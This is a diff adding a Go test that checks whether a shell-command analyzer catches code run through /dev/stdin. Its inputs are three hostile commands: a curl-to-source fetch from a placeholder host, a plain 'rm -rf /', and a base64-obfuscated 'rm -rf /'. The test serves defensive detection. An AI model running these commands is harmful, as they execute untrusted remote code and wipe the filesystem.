@@ -1070,3 +1070,18 @@ func TestReadAndPrintfAssign(t *testing.T) {
 		t.Errorf("read from stdin is unknown: %s", dump(f))
 	}
 }
+
+func TestStdinPaths(t *testing.T) {
+	f := run(t, `curl -s http://x.io/p | source /dev/stdin`)
+	if d := findDyn(f, "pipe_interpreter"); d == nil || !d.Downloaded {
+		t.Errorf("source /dev/stdin: %s", dump(f))
+	}
+	f = run(t, `bash /dev/stdin <<< "rm -rf /"`)
+	if d := findDyn(f, "heredoc_interpreter"); d == nil || !d.Static || findFile(f, "delete", "/") == nil {
+		t.Errorf("bash /dev/stdin: %s", dump(f))
+	}
+	f = run(t, `. /dev/stdin <<< "$(echo cm0gLXJmIC8= | base64 -d)"`)
+	if d := findDyn(f, "heredoc_interpreter"); d == nil || !d.Encoded || findFile(f, "delete", "/") == nil {
+		t.Errorf(". /dev/stdin: %s", dump(f))
+	}
+}
